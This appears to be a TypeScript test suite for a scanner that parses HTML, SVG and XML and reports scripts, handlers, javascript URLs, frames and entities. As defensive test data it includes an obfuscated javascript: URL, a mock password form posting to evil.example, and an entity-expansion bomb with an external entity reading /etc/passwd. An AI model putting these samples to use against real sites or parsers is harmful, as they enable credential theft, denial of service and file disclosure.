import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { MarkupFacts, TextShape, XmlError } from '../../../src/payload/facts.ts';
import { readMarkup } from '../../../src/payload/markup/markup.ts';
import { tokensOf } from '../../../src/payload/markup/markup-tokens.ts';
import { isFull, runs } from '../../support/seed.ts';

const shape: TextShape = {
  charset: 'utf-8',
  bom: null,
  lines: 1,
  longestLine: 0,
  undecodable: 0,
  firstUndecodable: null,
};
const html = (text: string) => readMarkup(text, 'html', shape).facts;
/** Returns the facts for a parser that ignores namespaces. */
const svg = (text: string) => readMarkup(text, 'svg', shape, { isDeclared: false }).facts;
const urls = (text: string, language: MarkupFacts['language'] = 'html') =>
  readMarkup(text, language, shape).references.first.map(({ written }) => written);

const tokens = (text: string, language: 'html' | 'xml') =>
  [...tokensOf(text, language)].map((token) =>
    token.kind === 'start' || token.kind === 'end'
      ? `${token.kind} ${token.name}`
      : `${token.kind} ${text.slice(token.start, token.end)}`,
  );

test('tokens of HTML', () => {
  const cases: [string, string[]][] = [
    ['', []],
    ['a < b <3 c', ['text a < b <3 c']],
    ['<P>x</P >', ['start p', 'text x', 'end p']],
    ['<!-- a > b --><b/>', ['comment <!-- a > b -->', 'start b']],
    ['<!--><b>', ['comment <!-->', 'start b']],
    ['<!---><b>', ['comment <!--->', 'start b']],
    ['<!-- --!><b>', ['comment <!-- --!>', 'start b']],
    ['<!-- <b>', ['comment <!-- <b>']],
    ['<?php <b> ?>', ['comment <?php <b>', 'text  ?>']],
    ['<![CDATA[<b>]]>', ['comment <![CDATA[<b>', 'text ]]>']],
    ['<svg><![CDATA[<b>]]>', ['start svg', 'cdata <![CDATA[<b>]]>']],
    ['<script><!-- <b> </scriptx></script><b>', ['start script', 'end script', 'start b']],
    ['<svg><style><b>', ['start svg', 'start style', 'start b']],
    ['<svg><foreignObject><style><b>', ['start svg', 'start foreignobject', 'start style']],
    [
      '<svg><desc><style></style></desc><style><b>',
      ['start svg', 'start desc', 'start style', 'end style', 'end desc', 'start style', 'start b'],
    ],
    ['<svg></svg><style><b>', ['start svg', 'end svg', 'start style']],
    ['<a title="<b>">', ['start a']],
    ['<a title=">', ['comment <a title=">']],
    ['</ x><b>', ['comment </ x>', 'start b']],
  ];
  for (const [text, expected] of cases) assert.deepEqual(tokens(text, 'html'), expected, text);
});

test('tokens of XML', () => {
  const cases: [string, string[]][] = [
    ['<a:B>x</a:B>', ['start B', 'text x', 'end B']],
    ['<?xml version="1.0"?><a/>', ['instruction <?xml version="1.0"?>', 'start a']],
    [
      '<!DOCTYPE a [<!ENTITY b "]>"><!-- ]> --><?c ]> ?>]><a/>',
      ['doctype <!DOCTYPE a [<!ENTITY b "]>"><!-- ]> --><?c ]> ?>]>', 'start a'],
    ],
    ['<![CDATA[<b>]]><a/>', ['cdata <![CDATA[<b>]]>', 'start a']],
    ['<script><b/></script>', ['start script', 'start b', 'end script']],
    ['<a <b/>', ['start a', 'start b']],
    ['<é/>', ['start é']],
  ];
  for (const [text, expected] of cases) assert.deepEqual(tokens(text, 'xml'), expected, text);
});

test('the first error of XML', () => {
  const cases: [string, string | null][] = [
    ['<a:B xmlns:a="u">x</a:B>', null],
    ['<a>&#65;&amp;</a> <!-- b --> <?c d?>', null],
    ['<a', 'unclosed 2 a'],
    ['<a><b></b>', 'unclosed 10 a a'],
    ['<a><!-- ', 'unclosed 8 a a'],
    ['<a><b></a>', 'mismatched 6 a b'],
    ['<a></a></a>', 'outside 7 a'],
    ['<a/>b', 'outside 4 '],
    ['<a/><b/>', 'outside 4 '],
    ['<a b c="d"/>', 'attribute 4 a'],
    ['<a b="<"/>', 'attribute 6 a'],
    ['<a <b/>', 'attribute 3 a'],
    ['<a:b/>', 'prefix 0 a'],
    ['<a b:c=""/>', 'prefix 3 b'],
    ['<a>b &copy; c</a>', 'reference 5 &copy; a'],
    ['<a b="c&d"/>', 'reference 7 &'],
    ['<a>]]></a>', 'syntax 3  a'],
    ['<a><!-- -- --></a>', 'syntax 8  a'],
    [' <?xml version="1.0"?><a/>', 'syntax 1 '],
    ['<!DOCTYPE a [<!ENTITY b "<c>">]><a>&b;</a>', 'mismatched 38 a c'],
    ['<!DOCTYPE a SYSTEM "b"><a>&c;</a>', 'reference 26 &c; a'],
    // Browsers know the entities of XHTML.
    ['<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.1//EN" "b"><a>&nbsp;</a>', null],
    ['<!DOCTYPE a PUBLIC "b~" "c"><a/>', 'syntax 0 '],
    ['<!DOCTYPE a:.b><a/>', null],
    ['<!DOCTYPE :a><a/>', 'syntax 0  in Firefox'],
    ['<!DOCTYPEa><a/>', 'syntax 0  in Firefox'],
    ['<\u{efffd}/>', 'syntax 0  in Firefox'],
    ['<\u{f0000}/>', 'syntax 0 '],
    ['<a xmlns="u" xmlns="v"/>', 'attribute 13 a in Firefox'],
    ['<a xmlns="u" xmlns="http://www.w3.org/2000/xmlns/"/>', 'namespace 13 '],
    ['<a xmlns:b="http://www.w3.org/2000/xmlns/"/>', 'namespace 3 b in Firefox'],
    ['<a xmlns:b="u"><b:.c/></a>', 'syntax 15  a in Firefox'],
    ['<a xml:1="b"/>', 'attribute 3 a in Firefox'],
    ['<a b="</c>"/>', 'attribute 2 a in Firefox'],
    ['<a b="<!-- c -->"/>', 'attribute 2 a in Firefox'],
    ['<a b="<!-- c -- d -->"/>', 'attribute 6 a'],
    ['<a><?b:c d?></a>', 'syntax 3  a in Firefox'],
    ['<a><xml:b/></a>', 'prefix 3 xml a in Chromium'],
    ['<a><xmlns:b/></a>', 'prefix 3 xmlns a'],
    ['<!DOCTYPE a [<!ENTITY b "<c/>">]><a d="&b;"/>', 'reference 39 &b; in Firefox'],
    ['<!DOCTYPE a [<!ENTITY b "c">]><a d="&b;"/>', null],
    // Only Firefox reads a declaration to its end, so a bracket in one doesn't end the document type.
    ['<!DOCTYPE a [<!ELEMENT a (b]c)>]><a/>', 'syntax 13  in Firefox'],
    ['<!DOCTYPE a [<!ENTITY b "c"]>]><a/>', 'syntax 13  in Firefox'],
    ['<!DOCTYPE a [<!ATTLIST a b (c]d) "c">]><a/>', 'syntax 13  in Firefox'],
    ['<!DOCTYPE a [<!ENTITY b ] "c">]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<!ENTITY b "c"]><a/>', 'syntax 13 '],
    // XML's whitespace is neither a no-break space nor a form feed.
    ['<!DOCTYPE a [<!ENTITY\u00a0b "c">]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<!ELEMENT\fa ANY>]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<!ATTLIST a\u00a0b CDATA "c">]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<!ELEMENT a\u00a0ANY>]><a/>', 'syntax 13  in Firefox'],
    ['<!DOCTYPE a [<!ENTITY b "\f">]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<?b \f?>]><a/>', 'syntax 13 '],
    ['<!DOCTYPE a [<!-- \f -->]><a/>', 'syntax 13  in Firefox'],
    // A parameter entity that was read can't declare what the text lacks.
    [`<!DOCTYPE a [<!ENTITY % b "<!ENTITY c 'd'>">%b;]><a>&c;</a>`, null],
    [`<!DOCTYPE a [<!ENTITY % b "<!ENTITY c 'd'>">%b;]><a>&e;</a>`, 'reference 52 &e; a'],
    // An error that both browsers report counts, even after an error that only Firefox reports.
    ['<a b="</c>"><d/>', 'unclosed 16 a a'],
  ];
  for (const [text, expected] of cases) {
    let shown: string | null = null;
    const onError = ({ code, at, name, open, browser }: XmlError) => {
      shown = `${code} ${at} ${name} ${open}`.replace(/ $/, '') + (browser ? ` in ${browser}` : '');
    };
    for (const _ of tokensOf(text, 'xml', { onError }));
    assert.equal(shown, expected, text);
  }
});

test('attributes: values and where they stand', () => {
  const text = `<a b c=d e = 'f' G="&lt;&#x41;&#66" c=again =h/>`;
  const [tag] = tokensOf(text, 'html');
  assert.ok(tag?.kind === 'start');
  assert.deepEqual(
    tag.attributes.map(({ name, value, start, end }) => [name, value, text.slice(start, end)]),
    [
      ['b', '', ''],
      ['c', 'd', 'd'],
      ['e', 'f', 'f'],
      ['g', '<AB', '&lt;&#x41;&#66'],
      ['=h', '', ''],
    ],
  );
  assert.equal(tag.selfClosing, false);
});

test('what runs in an SVG', () => {
  const facts = svg(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="a()" width="2in" height="50%" viewBox="0 0 1 2">
<title>A &amp; B</title><script>one()</script><script><![CDATA[two()]]></script><script href="s.js"/><script type="application/json">{}</script>
<a x:href="java&#x09;script&#58;alert(1)"><rect onclick="b()"/></a>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html,x"/></foreignObject>
<set attributeName="onmouseover" to="c()"/></svg>`);
  assert.equal(facts.title, 'A & B');
  assert.deepEqual(facts.scripts, { inline: 2, loaded: 1, sample: 'one()' });
  assert.deepEqual(facts.handlers, { count: 3, first: ['svg onload', 'rect onclick', 'set onmouseover'] });
  assert.deepEqual([facts.javascriptUrls, facts.foreignObjects, facts.frames], [1, 1, 1]);
  assert.deepEqual(facts.svg, {
    width: '2in',
    height: '50%',
    viewBox: '0 0 1 2',
    pixelWidth: 192,
    pixelHeight: null,
  });
});

test('an ordinary icon has nothing of it', () => {
  const { facts, references } = readMarkup(
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><defs><linearGradient id="a" href="#b"/></defs><path fill="url(#a)" d="M0 0h24"/></svg>',
    'svg',
    shape,
  );
  assert.deepEqual(facts.scripts, { inline: 0, loaded: 0, sample: null });
  assert.equal(facts.handlers.count + facts.javascriptUrls + facts.foreignObjects + facts.frames, 0);
  assert.deepEqual(references.byKind, { ...references.byKind, external: 0, relative: 0, data: 0 });
});

test('a page that asks for a password', () => {
  const facts = html(`<!DOCTYPE html><title>Sign in</title><base href=https://u:secret@evil.example/>
<meta http-equiv="Refresh" content="5; URL='https://evil.example/next'">
<form action="https://evil.example/take" method=POST><input type=Password><input type="text"></form>`);
  assert.equal(facts.title, 'Sign in');
  assert.equal(facts.passwordFields, 1);
  assert.deepEqual(facts.forms, {
    count: 1,
    first: [{ action: 'https://evil.example/take', method: 'post' }],
  });
  assert.equal(facts.refresh, "5; URL='https://evil.example/next'");
  assert.ok(facts.base && !facts.base.includes('secret'));
});

test('entities are reported and never expanded', () => {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
  const bomb = `<!DOCTYPE svg PUBLIC "p" "http://x.example/svg.dtd" [<!ENTITY e0 "ha">${levels.join('')}<!ENTITY % p SYSTEM "file:///etc/passwd">]><svg><title>&e9;</title></svg>`;
  const facts = svg(bomb);
  assert.equal(facts.doctype?.entities.count, 11);
  assert.deepEqual(facts.doctype?.entities.first.at(-1), { name: 'p', external: true, multiplies: false });
  assert.equal(facts.doctype?.system, 'http://x.example/svg.dtd');
  assert.equal(facts.title, '&e9;');
});

test('references with their destinations', () => {
  const text = `<link rel="shortcut icon" href=a><link rel=stylesheet href=b><link rel=preload as=font href=c>
<link rel=canonical href=d><script src=e></script><img src=f srcset="g 1x, h 2x"><video poster=i src=j>
<iframe src=k></iframe><object data=l></object><a href=m ping="n o">x</a><a href=p download>x</a>
<form action=q><button formaction=r></form><p style="background:url(s)"><body background=t>
<meta http-equiv=refresh content="0;url=u"><style>@import 'v';@font-face{src:url(w)}</style>
<svg><use href=x /><image xlink:href=y /><rect fill="url(z)"/><a><animate attributeName=href to=aa></a></svg>`;
  const { first } = readMarkup(text, 'html', shape).references;
  assert.equal(
    first.map(({ written, destination, when }) => `${written}:${destination}:${when}`).join(' '),
    'a:image:view b:style:view c:font:view d:none:never e:script:view f:image:view g:image:view ' +
      'h:image:view i:image:view j:video:view k:iframe:view l:object:view m:document:click n:empty:click ' +
      'o:empty:click p:download:click q:form:click r:form:click s:image:view t:image:view u:iframe:view ' +
      'v:style:view w:font:view x:document:view y:image:view z:image:view aa:document:click',
  );
  for (const { written, start, end } of first) {
    assert.ok(start !== null && end !== null);
    assert.ok(text.slice(start, end).includes(written));
    if (!['n', 'o', 'u'].includes(written)) assert.equal(text.slice(start, end), written);
  }
});

test('an instruction brings a style sheet', () => {
  assert.deepEqual(urls('<?xml-stylesheet type="text/css" href="a&amp;b.css"?><svg/>', 'svg'), ['a&b.css']);
});

test('a document in an attribute is looked into, however deep', () => {
  const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  let text = '<script>x()</script>';
  for (let depth = 1; depth <= 5; depth++) {
    text = `<i onclick=x></i><iframe srcdoc="${escaped(text)}"></iframe>`;
    const facts = html(text);
    assert.equal(facts.scripts.inline, 1);
    assert.equal(facts.handlers.count, depth);
  }
});

test('text that is no markup is none', () => {
  const facts = html(
    '<title><script>x()</script></title><!-- <script>y()</script> --><textarea><a onclick=x></textarea>',
  );
  assert.deepEqual([facts.scripts.inline, facts.handlers.count], [0, 0]);
  assert.equal(facts.title, '<script>x()</script>');
});

test('any text at all, cut anywhere', () => {
  const pieces = fc.constantFrom(
    ...[
      '<',
      '>',
      '</',
      '/>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '?>',
      '<!DOCTYPE ',
      '[',
      ']',
      '"',
      "'",
    ],
    ...['=', ' ', 'a', 'svg', 'script', 'style', 'onload', 'href', '&#', '&lt;', 'x;', 'url(', 'é', '\ud800'],
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
      const text = parts.join('');
      for (const language of ['html', 'svg', 'xml'] as const) {
        const { facts, references } = readMarkup(text, language, shape);
        JSON.stringify([facts, references]);
        let last = 0;
        for (const { start, end } of tokensOf(text, language === 'html' ? 'html' : 'xml')) {
          assert.ok(start >= last && end > start && end <= text.length);
          last = start;
        }
      }
    }),
    runs(1000),
  );
});

test('10,000 levels, and megabytes of one thing, come to an end', () => {
  assert.equal(svg('<g>'.repeat(10_000)).elements, 10_000);
  const deep = html('<svg><foreignObject>'.repeat(10_000));
  assert.equal(deep.elements, 20_000);
  assert.deepEqual(deep.unfollowed, ['nesting']);
  for (const piece of [
    ...['<a>', '<', '<a ', '<a href="', '<!--', '</', '<svg><style>', '<script>', '<![CDATA[', '<!DOCTYPE ['],
    ...['<a b=', '<a b=c ', '<title>', '&#', '<iframe srcdoc="<p>">', '<style>a{b:url(\\78 )}</style>', '<?'],
  ]) {
    const text = piece.repeat((isFull ? 500_000 : 100_000) / piece.length);
    const facts = [html(text), svg(text)];
    assert.ok(JSON.stringify(facts).length < 100_000);
  }
});

test('megabytes are read', () => {
  const size = isFull ? 16_000_000 : 4_000_000;
  const text = `<svg>${'<path d="M0 0h1v1z" fill="#fff"/>'.repeat(size / 33)}<script>x()</script></svg>`;
  assert.equal(svg(text).scripts.inline, 1);
  // The attribute is longer than anything that a regular expression can match with backtracking.
  assert.equal(svg(`<svg a="<!--${'x'.repeat(12_000_000)}-->"><script>x()</script></svg>`).scripts.inline, 1);
});

test('references are counted, and the first thousand listed', () => {
  const { references } = readMarkup('<img src=http://a.example/>'.repeat(5000), 'html', shape);
  assert.equal(references.count, 5000);
  assert.equal(references.requests, 5000);
  assert.equal(references.first.length, 1000);
});
